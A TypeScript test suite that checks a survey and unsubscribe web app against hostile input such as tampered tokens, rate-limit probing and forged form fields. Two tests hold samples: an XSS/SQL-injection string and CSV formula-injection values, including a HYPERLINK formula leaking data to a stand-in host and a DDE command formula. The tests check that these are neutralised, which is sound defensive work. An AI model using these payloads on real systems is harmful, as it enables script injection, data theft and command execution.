/**
 * Hostile input against the customer's survey and unsubscribe links (docs/reliability.md,
 * "Faults the tests hold"): each case asserts the exact status and that nothing was written or
 * changed (the whole database is compared before and after, failure counters aside).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { formatDate } from '../../src/lib/i18n/survey';
import {
  BASE_URL,
  DAY,
  HOUR,
  addApiKey,
  api,
  createTestApp,
  interaction,
  manualClock,
  type TestApp,
} from '../helpers/app';
import { dataState } from './data-state';

const START = '2026-11-20T12:00:00Z';

/** A request as it arrives from `address` (the app reads the socket's remote address). */
function from(t: TestApp, address: string, path: string, init: RequestInit = {}): Promise<Response> {
  return Promise.resolve(
    t.app.request(`${BASE_URL}${path}`, init, { incoming: { socket: { remoteAddress: address } } }),
  );
}

const form = (fields: Record<string, string>) => ({
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams(fields).toString(),
});

describe('hostile input: survey and unsubscribe links', () => {
  let t: TestApp;
  let key: string;
  const clock = manualClock(START);
  let addressSeq = 0;
  /** A fresh client address per test, so failure counters of one test never reach another. */
  const nextAddress = () => `198.51.100.${++addressSeq}`;

  /** A new interaction with its survey and unsubscribe links (read from the not-yet-sent message). */
  async function invite() {
    const item = interaction({ occurredAt: new Date(clock.nowMs() - HOUR).toISOString() });
    const res = await api(t, key, 'POST', '/interactions', item);
    expect(res.status).toBe(201);
    const mail = await t.db.readClient.execute({
      sql: "SELECT text_body FROM outbox WHERE to_address = ? AND kind = 'invitation'",
      args: [item.customer.email],
    });
    const text = String(mail.rows[0]!.text_body);
    const invitation = await t.db.readClient.execute({
      sql: 'SELECT id FROM invitations WHERE interaction_id = ?',
      args: [res.json[0].id],
    });
    return {
      interactionId: Number(res.json[0].id),
      invitationId: Number(invitation.rows[0]!.id),
      email: item.customer.email,
      survey: /\/s\/[A-Za-z0-9_-]{43}/.exec(text)![0],
      token: /\/s\/([A-Za-z0-9_-]{43})/.exec(text)![1]!,
      unsubscribe: /\/u\/[A-Za-z0-9_-]{43}/.exec(text)![0],
    };
  }
  const responsesOf = async (invitationId: number) =>
    (
      await t.db.readClient.execute({ sql: 'SELECT * FROM responses WHERE invitation_id = ?', args: [invitationId] })
    ).rows.map((r) => ({ ...r }));

  let notFoundBody: string;

  beforeAll(async () => {
    t = await createTestApp({}, clock);
    key = (await addApiKey(t, 'all')).key;
    expect(
      (await api(t, key, 'POST', '/reps', [{ email: 'ana@acme.test', name: 'Ana Ruiz', team: 'Iberia' }])).status,
    ).toBe(200);
    // The reference "not found" page: a well-formed token that matches nothing.
    const reference = await from(t, '192.0.2.1', `/s/${'Q'.repeat(43)}`);
    expect(reference.status).toBe(404);
    notFoundBody = await reference.text();
    expect(notFoundBody).toContain('data-outcome="not-found"');
  });
  afterAll(async () => t.close());

  it('two tabs submitting the same survey: one 303, the other 200 "already received", one response', async () => {
    const link = await invite();
    const address = nextAddress();
    const [a, b] = await Promise.all([
      from(t, address, link.survey, form({ resolved_first_contact: 'yes', content_useful: '5', action: 'submit' })),
      from(t, address, link.survey, form({ resolved_first_contact: 'no', content_useful: '1', action: 'submit' })),
    ]);
    expect([a.status, b.status].sort()).toEqual([200, 303]);
    const second = a.status === 200 ? a : b;
    expect(await second.text()).toContain('data-outcome="already-submitted"');
    const rows = await responsesOf(link.invitationId);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ status: 'submitted' });
    // The winner's answers, whole: never a mix of the two tabs.
    const winner =
      a.status === 303
        ? { resolved_first_contact: 1, content_useful: 5 }
        : { resolved_first_contact: 0, content_useful: 1 };
    expect(rows[0]).toMatchObject(winner);
    // A third tab later changes nothing.
    const before = await dataState(t);
    const third = await from(t, address, link.survey, form({ resolved_first_contact: 'no', action: 'submit' }));
    expect(third.status).toBe(200);
    expect(await third.text()).toContain('data-outcome="already-submitted"');
    expect(await dataState(t)).toEqual(before);
  });

  it('a double click (the same submit twice in a row) records once', async () => {
    const link = await invite();
    const first = await from(t, nextAddress(), link.survey, form({ added_value: '4', action: 'submit' }));
    expect(first.status).toBe(303);
    const before = await dataState(t);
    const again = await from(t, nextAddress(), link.survey, form({ added_value: '4', action: 'submit' }));
    expect(again.status).toBe(200);
    expect(await again.text()).toContain('data-outcome="already-submitted"');
    expect(await dataState(t)).toEqual(before);
  });

  it('a tampered token (one character changed) gets the uniform 404 page and changes nothing', async () => {
    const link = await invite();
    const i = 20;
    const tampered = `${link.token.slice(0, i)}${link.token[i] === 'A' ? 'B' : 'A'}${link.token.slice(i + 1)}`;
    const before = await dataState(t);
    const get = await from(t, nextAddress(), `/s/${tampered}`);
    expect(get.status).toBe(404);
    expect(await get.text()).toBe(notFoundBody);
    const post = await from(
      t,
      nextAddress(),
      `/s/${tampered}`,
      form({ resolved_first_contact: 'yes', action: 'submit' }),
    );
    expect(post.status).toBe(404);
    expect(await post.text()).toBe(notFoundBody);
    expect(await dataState(t)).toEqual(before);
    expect((await from(t, nextAddress(), link.survey)).status).toBe(200); // the real one still works
  });

  it('a huge token (10 KB) gets the same 404 page, GET and POST, nothing written', async () => {
    const before = await dataState(t);
    for (const token of ['A'.repeat(10 * 1024), `${'x'.repeat(5000)}-${'_'.repeat(5239)}`]) {
      const get = await from(t, nextAddress(), `/s/${token}`);
      expect(get.status).toBe(404);
      expect(await get.text()).toBe(notFoundBody);
      const post = await from(t, nextAddress(), `/s/${token}`, form({ content_useful: '5', action: 'submit' }));
      expect(post.status).toBe(404);
      expect(await post.text()).toBe(notFoundBody);
    }
    expect(await dataState(t)).toEqual(before);
  });

  it('NUL bytes and %00 in a token get the same 404 page, nothing written', async () => {
    const link = await invite();
    const before = await dataState(t);
    const tokens = [
      `${link.token}%00`,
      `${link.token.slice(0, 42)}%00`,
      `${link.token.slice(0, 20)}%00${link.token.slice(20)}`,
      '%00',
      `${link.token.slice(0, 20)}\u0000${link.token.slice(20)}`,
      `%00${link.token}`,
    ];
    for (const token of tokens) {
      for (const init of [{}, form({ resolved_first_contact: 'yes', action: 'submit' })]) {
        const res = await from(t, nextAddress(), `/s/${token}`, init);
        expect(res.status, token).toBe(404);
        expect(await res.text(), token).toBe(notFoundBody);
      }
    }
    expect(await dataState(t)).toEqual(before);
  });

  it('unicode in a token (look-alike letters, accents, emoji, RTL) gets the same 404 page, nothing written', async () => {
    const link = await invite();
    const before = await dataState(t);
    const tokens = [
      `${link.token.slice(0, 10)}\u0410${link.token.slice(11)}`, // Cyrillic А for a Latin letter
      `${link.token.slice(0, 42)}é`,
      `${link.token.slice(0, 41)}😀`,
      `\u202e${link.token.slice(1)}`,
      'ｆｕｌｌｗｉｄｔｈ'.repeat(5),
      encodeURIComponent(`${link.token.slice(0, 42)}ß`),
    ];
    for (const token of tokens) {
      const res = await from(t, nextAddress(), `/s/${token}`);
      expect(res.status, token).toBe(404);
      expect(await res.text(), token).toBe(notFoundBody);
      const post = await from(
        t,
        nextAddress(),
        `/s/${token}`,
        form({ resolved_first_contact: 'no', action: 'submit' }),
      );
      expect(post.status, token).toBe(404);
      expect(await post.text(), token).toBe(notFoundBody);
    }
    expect(await dataState(t)).toEqual(before);
  });

  it('1,000 random tokens from one address: 429 with Retry-After after TOKEN_FAILURE_LIMIT; valid links from that address still work', async () => {
    const link = await invite();
    const address = '203.0.113.7';
    const limit = t.config.tokenFailureLimit;
    const statuses: number[] = [];
    let retryAfter: string | null = null;
    for (let i = 0; i < 1000; i++) {
      const token = Buffer.from(`${i}-${Math.random()}-${Math.random()}`)
        .toString('base64url')
        .padEnd(43, 'x')
        .slice(0, 43);
      const res = await from(t, address, i % 2 ? `/s/${token}` : `/u/${token}`);
      statuses.push(res.status);
      if (res.status === 429) retryAfter ??= res.headers.get('retry-after');
      await res.body?.cancel();
    }
    expect(statuses.slice(0, limit).every((s) => s === 404)).toBe(true);
    expect(statuses.slice(limit).every((s) => s === 429)).toBe(true);
    expect(Number(retryAfter)).toBeGreaterThanOrEqual(1);
    expect(Number(retryAfter)).toBeLessThanOrEqual(t.config.rateLimitWindowSeconds);
    // Valid traffic from the same address is never throttled, and nothing of the random tokens was written.
    const before = await dataState(t);
    expect((await from(t, address, link.survey)).status).toBe(200);
    expect((await from(t, address, link.unsubscribe)).status).toBe(200);
    expect(await dataState(t)).toEqual(before);
    const saved = await from(t, address, link.survey, form({ content_useful: '4' }));
    expect(saved.status).toBe(200);
    const submitted = await from(t, address, link.survey, form({ action: 'submit' }));
    expect(submitted.status).toBe(303);
    expect(await responsesOf(link.invitationId)).toEqual([
      expect.objectContaining({ status: 'submitted', content_useful: 4 }),
    ]);
    // A POST with a random token from that address is refused the same way.
    const post = await from(t, address, `/s/${'Z'.repeat(43)}`, form({ resolved_first_contact: 'yes' }));
    expect(post.status).toBe(429);
    expect(Number(post.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
  });

  it('valid survey traffic is never counted: 200 valid requests from one address, then an unknown token is still a 404', async () => {
    const address = nextAddress();
    const links = await Promise.all(Array.from({ length: 4 }, () => invite()));
    for (let i = 0; i < 200; i++) {
      const link = links[i % links.length]!;
      // GETs of survey and unsubscribe links, and answers saved (an unsubscribe post would close the survey).
      const res = await from(
        t,
        address,
        i % 3 === 0 ? link.unsubscribe : link.survey,
        i % 3 !== 0 && i % 5 === 0 ? form({ decision_clearer: String((i % 5) + 1) }) : {},
      );
      expect(res.status).toBe(200);
      await res.body?.cancel();
    }
    expect(200).toBeGreaterThan(t.config.tokenFailureLimit);
    expect((await from(t, address, `/s/${'R'.repeat(43)}`)).status).toBe(404);
  });

  it("a mail scanner's HEAD and GETs of a survey link change nothing", async () => {
    const link = await invite();
    const before = await dataState(t);
    const address = nextAddress();
    for (const path of [link.survey, `${link.survey}?first=yes`, `${link.survey}?first=no`, `${link.survey}?lang=de`]) {
      const head = await from(t, address, path, { method: 'HEAD' });
      expect(head.status, `HEAD ${path}`).toBe(200);
      expect(await head.text()).toBe('');
      const get = await from(t, address, path, { headers: { 'User-Agent': 'Mozilla/5.0 (compatible; SafeLinks)' } });
      expect(get.status, `GET ${path}`).toBe(200);
      await get.text();
    }
    const thanks = await from(t, address, `${link.survey}/thanks`);
    expect(thanks.status).toBe(303);
    expect(thanks.headers.get('location')).toBe(link.survey);
    expect(await dataState(t)).toEqual(before);
    expect(await responsesOf(link.invitationId)).toEqual([]);
  });

  it("a mail scanner's HEAD and GETs of an unsubscribe link opt nobody out", async () => {
    const link = await invite();
    const before = await dataState(t);
    const address = nextAddress();
    for (let i = 0; i < 3; i++) {
      const head = await from(t, address, link.unsubscribe, { method: 'HEAD' });
      expect(head.status).toBe(200);
      const get = await from(t, address, link.unsubscribe);
      expect(get.status).toBe(200);
      expect(await get.text()).toContain('method="post"');
    }
    expect(await dataState(t)).toEqual(before);
    const customer = await t.db.readClient.execute({
      sql: 'SELECT opted_out_at FROM customers WHERE email = ?',
      args: [link.email],
    });
    expect(customer.rows[0]!.opted_out_at).toBeNull();
    expect((await from(t, address, link.survey)).status).toBe(200); // the survey is still open
  });

  it('reopening a half-answered survey shows the saved answers', async () => {
    const link = await invite();
    const address = nextAddress();
    const saved = await from(
      t,
      address,
      link.survey,
      form({ resolved_first_contact: 'no', content_useful: '2', comment: 'Half way — más tarde <b>bold</b>' }),
    );
    expect(saved.status).toBe(200);
    expect(await saved.text()).toContain('data-outcome="saved"');
    const before = await dataState(t);
    const reopened = await from(t, address, link.survey);
    expect(reopened.status).toBe(200);
    const html = await reopened.text();
    expect(html).toMatch(/name="resolved_first_contact" value="no" checked/);
    expect(html).not.toMatch(/name="resolved_first_contact" value="yes" checked/);
    expect(html).toMatch(/name="content_useful" value="2" checked/);
    expect(html).toContain('Half way — más tarde &lt;b&gt;bold&lt;/b&gt;</textarea>');
    expect(await dataState(t)).toEqual(before);
    expect(await responsesOf(link.invitationId)).toEqual([
      expect.objectContaining({
        status: 'partial',
        resolved_first_contact: 0,
        content_useful: 2,
        decision_clearer: null,
        submitted_at: null,
      }),
    ]);
  });

  for (const value of ['7', '0', '-1', '1.5', '5 ', '٣', '1e0', '05']) {
    it(`an out-of-range answer (content_useful=${JSON.stringify(value)}) → 422, nothing saved`, async () => {
      const link = await invite();
      const address = nextAddress();
      expect((await from(t, address, link.survey, form({ decision_clearer: '3' }))).status).toBe(200);
      const before = await dataState(t);
      const res = await from(
        t,
        address,
        link.survey,
        form({ resolved_first_contact: 'yes', content_useful: value, action: 'submit' }),
      );
      expect(res.status).toBe(422);
      const html = await res.text();
      expect(html).toMatch(/name="resolved_first_contact" value="yes" checked/); // shown as typed, not saved
      expect(await dataState(t)).toEqual(before);
      expect(await responsesOf(link.invitationId)).toEqual([
        expect.objectContaining({
          status: 'partial',
          resolved_first_contact: null,
          content_useful: null,
          decision_clearer: 3,
        }),
      ]);
    });
  }

  for (const [name, value] of [
    ['resolved_first_contact', 'maybe'],
    ['resolved_first_contact', 'YES'],
    ['resolved_first_contact', 'true'],
    ['added_value', 'lots'],
  ] as const) {
    it(`an unknown answer (${name}=${value}) → 422, nothing saved`, async () => {
      const link = await invite();
      const before = await dataState(t);
      const res = await from(
        t,
        nextAddress(),
        link.survey,
        form({ [name]: value, decision_clearer: '4', action: 'submit' }),
      );
      expect(res.status).toBe(422);
      await res.text();
      expect(await dataState(t)).toEqual(before);
      expect(await responsesOf(link.invitationId)).toEqual([]);
    });
  }

  it('an unknown answer through htmx autosave → 422 fragment, nothing saved', async () => {
    const link = await invite();
    const before = await dataState(t);
    const res = await from(t, nextAddress(), link.survey, {
      ...form({ resolved_first_contact: 'maybe' }),
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'HX-Request': 'true' },
    });
    expect(res.status).toBe(422);
    expect(await res.text()).not.toContain('<html');
    expect(await dataState(t)).toEqual(before);
  });

  it('a 100 KB comment is refused: 422 with the form as typed, nothing saved', async () => {
    const link = await invite();
    const comment = `Start ${'word '.repeat(20 * 1024)}end`;
    expect(comment.length).toBeGreaterThan(100 * 1024);
    const before = await dataState(t);
    const res = await from(t, nextAddress(), link.survey, form({ content_useful: '4', comment, action: 'submit' }));
    expect(res.status).toBe(422);
    const html = await res.text();
    expect(html).toMatch(/name="content_useful" value="4" checked/);
    expect(html).toContain(`${comment}</textarea>`);
    expect(html).toContain('aria-invalid="true"');
    expect(await dataState(t)).toEqual(before);
  });

  it('a post over the 256 KB body limit (a 300 KB comment) → 413, nothing saved', async () => {
    const link = await invite();
    const before = await dataState(t);
    const res = await from(
      t,
      nextAddress(),
      link.survey,
      form({ content_useful: '4', comment: 'x'.repeat(300 * 1024), action: 'submit' }),
    );
    expect(res.status).toBe(413);
    await res.text();
    expect(await dataState(t)).toEqual(before);
  });

  it('a comment of exactly 2,000 characters is accepted; 2,001 are refused (422, nothing saved)', async () => {
    const link = await invite();
    const address = nextAddress();
    const before = await dataState(t);
    const tooLong = await from(t, address, link.survey, form({ comment: 'é'.repeat(2001) }));
    expect(tooLong.status).toBe(422);
    expect(await dataState(t)).toEqual(before);
    const ok = await from(t, address, link.survey, form({ comment: 'é'.repeat(2000) }));
    expect(ok.status).toBe(200);
    expect(await responsesOf(link.invitationId)).toEqual([expect.objectContaining({ comment: 'é'.repeat(2000) })]);
  });

  it('script in a comment is stored exactly as typed and shown back escaped', async () => {
    const link = await invite();
    const address = nextAddress();
    const script = `<script>alert("x")</script><img src=x onerror=alert(1)> ' OR 1=1 --`;
    expect((await from(t, address, link.survey, form({ comment: script }))).status).toBe(200);
    expect(await responsesOf(link.invitationId)).toEqual([expect.objectContaining({ comment: script })]);
    const html = await (await from(t, address, link.survey)).text();
    expect(html).not.toContain('<script>alert');
    expect(html).not.toContain('<img src=x');
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;');
  });

  it('formulas in comments (= + - @, tab) are exported with a leading apostrophe, never as live formulas', async () => {
    const formulas = [
      '=HYPERLINK("http://evil.test/?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
    ];
    for (const comment of formulas) {
      const link = await invite();
      expect((await from(t, nextAddress(), link.survey, form({ comment, action: 'submit' }))).status).toBe(303);
    }
    const res = await t.request('/api/v1/responses.csv?from=2026-01-01T00:00:00Z&to=2027-01-01T00:00:00Z', {
      headers: { Authorization: `Bearer ${key}` },
    });
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    const comments = rows.map((r) => r.comment ?? '');
    for (const comment of formulas) expect(comments).toContain(`'${comment}`);
    for (const row of rows)
      for (const [column, cell] of Object.entries(row)) expect(cell, column).not.toMatch(/^[=+@\t\r]|^-[^0-9]/);
  });

  it('unknown form fields (status, rep_id, invitation_id, submitted_at) cannot forge a submission or touch another row', async () => {
    const link = await invite();
    const before = await dataState(t);
    const res = await from(
      t,
      nextAddress(),
      link.survey,
      form({ status: 'submitted', rep_id: '999', invitation_id: '1', submitted_at: '0' }),
    );
    expect(res.status).toBe(200);
    const rows = await responsesOf(link.invitationId);
    // Unknown fields are ignored: at most an empty partial, never a submission or another rep's row.
    expect(rows.every((r) => r.status === 'partial' && r.submitted_at === null)).toBe(true);
    const after = await dataState(t);
    expect(after.invitations).toEqual(before.invitations);
    expect(after.cpi_cumulative).toEqual(before.cpi_cumulative);
  });

  it('an unsubscribe link never opens the survey, and a survey token never unsubscribes (uniform 404)', async () => {
    const link = await invite();
    const before = await dataState(t);
    const unsubToken = link.unsubscribe.slice(3);
    const asSurvey = await from(
      t,
      nextAddress(),
      `/s/${unsubToken}`,
      form({ resolved_first_contact: 'yes', action: 'submit' }),
    );
    expect(asSurvey.status).toBe(404);
    expect(await asSurvey.text()).toBe(notFoundBody);
    const asUnsub = await from(t, nextAddress(), `/u/${link.token}`, form({ 'List-Unsubscribe': 'One-Click' }));
    expect(asUnsub.status).toBe(404);
    expect(await dataState(t)).toEqual(before);
  });

  it('submit after expiry → 410 naming the date, nothing saved; the unsubscribe link still works', async () => {
    const link = await invite();
    const address = nextAddress();
    expect((await from(t, address, link.survey, form({ content_useful: '3' }))).status).toBe(200);
    clock.advance(20 * DAY);
    const before = await dataState(t);
    const post = await from(
      t,
      address,
      link.survey,
      form({ resolved_first_contact: 'yes', content_useful: '5', action: 'submit' }),
    );
    expect(post.status).toBe(410);
    const html = await post.text();
    expect(html).toContain('data-outcome="expired"');
    const expiresAt = Number(
      (await t.db.readClient.execute(`SELECT expires_at FROM invitations WHERE id = ${link.invitationId}`)).rows[0]!
        .expires_at,
    );
    expect(html).toContain(`caducó el ${formatDate(expiresAt, 'es')}`); // the customer's language (es)
    const get = await from(t, address, link.survey);
    expect(get.status).toBe(410);
    const htmx = await from(t, address, link.survey, {
      ...form({ content_useful: '5' }),
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'HX-Request': 'true' },
    });
    expect(htmx.status).toBe(410);
    expect(await dataState(t)).toEqual(before);
    expect(await responsesOf(link.invitationId)).toEqual([
      expect.objectContaining({ status: 'partial', content_useful: 3, resolved_first_contact: null }),
    ]);
    expect((await from(t, address, link.unsubscribe)).status).toBe(200);
  });
});
